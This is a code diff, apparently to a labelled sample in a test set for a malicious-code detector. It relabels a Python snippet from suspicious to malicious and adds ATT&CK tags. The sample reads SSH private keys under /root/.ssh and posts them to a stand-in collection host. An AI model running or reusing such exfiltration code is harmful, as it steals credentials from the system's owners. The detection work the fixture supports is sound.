@@ -75,8 +75,12 @@ for path in glob.glob("/root/.ssh/*") + ["/root/.ssh/id_rsa", "/root/.ssh/id_ed2
     except OSError: pass
 urllib.request.urlopen(urllib.request.Request("http://collect.example/up.php", data=loot.encode())).read()
 `,
-    shows: { trace_reads_stored_secrets: ['T1003.008', 'T1552.004'], trace_sends_data_out: ['T1041'] },
-    label: 'suspicious',
+    shows: {
+      trace_reads_stored_secrets: ['T1003.008', 'T1552.004'],
+      trace_sends_data_out: ['T1041'],
+      trace_sends_secrets: ['T1552.001', 'T1041'],
+    },
+    label: 'malicious',
     tells: ['http://collect.example/up.php', 'anna:$6$'],
     core: true,
   },
